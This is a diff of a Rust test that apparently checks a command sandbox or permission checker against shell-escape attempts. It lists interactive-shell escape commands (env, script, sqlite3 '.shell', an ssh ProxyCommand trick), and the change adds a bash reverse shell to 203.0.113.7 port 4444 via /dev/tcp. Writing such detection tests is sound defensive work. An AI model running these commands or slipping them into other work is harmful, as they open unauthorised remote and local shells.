@@ -225,8 +225,7 @@ fn shells_and_escape_hatches() {
         "env -i HOME=/tmp /bin/zsh -i",
         "script -q /dev/null -c /bin/bash",
         "sqlite3 app.db '.shell bash -i'",
-        "docker run --rm -it --entrypoint /bin/sh alpine",
-        "kubectl exec -it deploy/api -- /bin/bash",
+        "docker exec -it web bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
         "ssh -o ProxyCommand='bash -c \"bash -i 0<&2 1>&2\"' build01",
     ] {
         attack(cmd, Effect::Shell);
